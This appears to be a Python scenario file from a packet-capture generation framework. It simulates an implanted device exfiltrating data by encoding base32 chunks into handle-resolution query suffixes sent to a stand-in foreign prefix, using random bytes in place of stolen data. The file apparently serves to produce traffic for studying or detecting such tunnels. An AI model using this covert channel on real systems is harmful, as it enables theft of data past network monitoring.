"""A device in the cell carries data out in the suffixes of handles that it asks the enterprise node for."""

from __future__ import annotations

import base64

from pcaps.scenarios.rig import handle_message as hdl
from pcaps.scenarios.rig.registrar import Questions, make_scenario
from pcaps.scenarios.rig.stage import Stage

_FOREIGN = "88.907.3315"
"""Prefix of somebody else, who sees what the recursive node asks for it."""


async def attack(stage: Stage) -> None:
    """Ask for 160 handles of a foreign prefix, each with 100 bytes of a file in its suffix."""
    await stage.until(30)
    stage.mark()
    questions = Questions(stage)
    stolen = stage.random.randbytes(16_000)
    for ordinal in range(160):
        piece = base64.b32encode(stolen[ordinal * 100 : ordinal * 100 + 100]).decode().rstrip("=").lower()
        await questions.ask(hdl.RESOLUTION, hdl.ask(f"{_FOREIGN}/{ordinal:04x}.{piece}"))
        await stage.wait(0.4)


SCENARIO = make_scenario("handle_tunnel.pcap.gz", 53, 120, {"implant": attack}, strangers=("implant",))
